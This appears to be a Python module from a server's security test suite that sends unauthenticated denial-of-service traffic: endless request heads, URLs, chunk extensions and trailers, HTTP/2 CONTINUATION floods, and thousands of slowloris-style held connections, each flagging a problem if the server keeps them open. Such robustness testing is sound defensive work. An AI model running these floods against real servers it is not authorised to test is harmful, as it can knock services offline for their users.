"""Attacks without a key: heads of requests that do not end, and bytes that were not asked for."""

import contextlib
import socket
import threading
import time
from collections.abc import Callable

from .attack_tools import Scene, attack

PIECE_BYTES = 65536

MOST_BYTES = 300e6
"""That one attack sends, so that it ends; the old server keeps up to ten times as much."""

CLOSED_PAUSE_S = 0.1
"""Before the next connection when one is closed."""


def _endless(scene: Scene, first: bytes, unit: bytes, connections: int = 1, *, must_close: bool = True) -> None:
    """Send the first bytes, and then the others again and again, on a new connection when one is closed."""
    piece = unit * (PIECE_BYTES // len(unit))
    left = [scene.sized(MOST_BYTES) // connections // len(piece)] * connections
    scene.go()

    def one(number: int) -> None:
        while scene.is_on() and left[number] > 0:
            with scene.connect() as to, contextlib.suppress(BrokenPipeError, ConnectionResetError):
                to.sendall(first)
                while scene.is_on() and left[number] > 0:
                    to.sendall(piece)
                    left[number] -= 1
                time.sleep(max(0.0, scene.until_s - time.monotonic()))  # it is held, however much came
                scene.note("closed" if is_closed(to) else "open to the end")
                return
            scene.note("closed")
            time.sleep(CLOSED_PAUSE_S)

    in_threads(one, connections)
    if must_close and (still := scene.outcome.got["open to the end"]):
        scene.problem(f"{still} connections were never closed, though what came on them has no end")


def in_threads(call: Callable[[int], None], count: int) -> None:
    threads = [threading.Thread(target=call, args=(number,), daemon=True) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attack()
def small_headers(scene: Scene) -> None:
    """1. One connection, a head of small headers without end."""
    _endless(scene, b"GET /health HTTP/1.1\r\n", b"a: b\r\n")


@attack()
def one_header(scene: Scene) -> None:
    """1. Eight connections, each with one header without end."""
    _endless(scene, b"GET /health HTTP/1.1\r\nx: ", b"a", 8)


@attack()
def endless_url(scene: Scene) -> None:
    """1. Eight connections, each with a URL without end."""
    _endless(scene, b"GET /", b"a", 8)


@attack()
def endless_trailers(scene: Scene) -> None:
    """Of the same class: small headers after the last chunk of a body."""
    first = b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n"
    _endless(scene, first, b"a: b\r\n")


@attack()
def endless_chunk_extension(scene: Scene) -> None:
    """Of the same class: a chunk's extension without end."""
    first = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1;"
    _endless(scene, first, b"a")


@attack()
def refused_chunks(scene: Scene) -> None:
    """Low. A chunked body that was refused, without a key, and goes on for ever."""
    first = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    _endless(scene, first, b"1000\r\n" + b"a" * 4096 + b"\r\n")


@attack()
def pipelined(scene: Scene) -> None:
    """Of the same class: requests one after another, whose answers are not read."""
    _endless(scene, b"", b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n", 4, must_close=False)


@attack()
def no_http(scene: Scene) -> None:
    """Of the same class: no line at all."""
    _endless(scene, b"", b"\r\n", 2)


@attack()
def grpc_headers(scene: Scene) -> None:
    """Of the same class: HTTP/2 with CONTINUATION frames without end, on the gRPC port."""
    opened = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
    headers = b"\0\0\x01\x01\0\0\0\0\x01" + b"\x82"  # HEADERS without END_HEADERS
    block = b"\0\x01a\x01b"  # a literal header, not indexed
    block *= 16000 // len(block)
    piece = (len(block).to_bytes(3, "big") + b"\x09\0\0\0\0\x01" + block) * 4
    left = scene.sized(MOST_BYTES) // len(piece)
    scene.go()
    while scene.is_on() and left > 0:
        with scene.connect(scene.grpc_port) as to, contextlib.suppress(BrokenPipeError, ConnectionResetError):
            to.sendall(opened + headers)
            while scene.is_on() and left > 0:
                to.sendall(piece)
                left -= 1
            scene.note("open to the end")
            continue
        scene.note("closed")
        time.sleep(CLOSED_PAUSE_S)


# -- connections that are held ---------------------------------------------------------------------------------------

HELD = 3000

HELD_S = 16.0
"""Longer than a head may take."""


def _held(scene: Scene, first: bytes, port: int, *, must_close: bool) -> None:
    """So many connections that say so much and no more."""
    count = scene.sized(HELD)
    held: list[socket.socket] = []
    scene.go()
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                held.append(scene.connect(port))
                held[-1].sendall(first)
            if len(held) % 100 == 0:
                time.sleep(0.05)
        while scene.is_on():
            time.sleep(0.2)
        closed = sum(is_closed(each) for each in held)
    finally:
        for each in held:
            each.close()
    scene.outcome.got.update({"held": len(held), "closed by the server": closed})
    if must_close and closed < len(held):
        scene.problem(f"{len(held) - closed} of {len(held)} connections were still open at the end")


def is_closed(held: socket.socket) -> bool:
    """By the other side; what it has said is read and thrown away."""
    held.setblocking(False)
    try:
        while said := held.recv(65536):
            pass
        return not said
    except BlockingIOError:
        return False
    except OSError:
        return True


@attack(least_s=HELD_S)
def half_heads(scene: Scene) -> None:
    """8. 3,000 connections without a key that say half a head."""
    _held(scene, b"GET /health HTTP/1.1\r\nHost: x\r\nA: ", scene.target.http[1], must_close=True)


@attack(least_s=HELD_S)
def silent_connections(scene: Scene) -> None:
    """8. 3,000 connections to HTTP that say nothing; how long they may stay is a matter of the idle time."""
    _held(scene, b"", scene.target.http[1], must_close=False)


@attack(least_s=HELD_S)
def silent_grpc(scene: Scene) -> None:
    """8. 3,000 connections to gRPC that say nothing."""
    _held(scene, b"", scene.grpc_port, must_close=True)


@attack(least_s=HELD_S)
def idle_grpc(scene: Scene) -> None:
    """8. 3,000 connections to gRPC that begin HTTP/2, and ask nothing."""
    opened = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
    _held(scene, opened, scene.grpc_port, must_close=False)
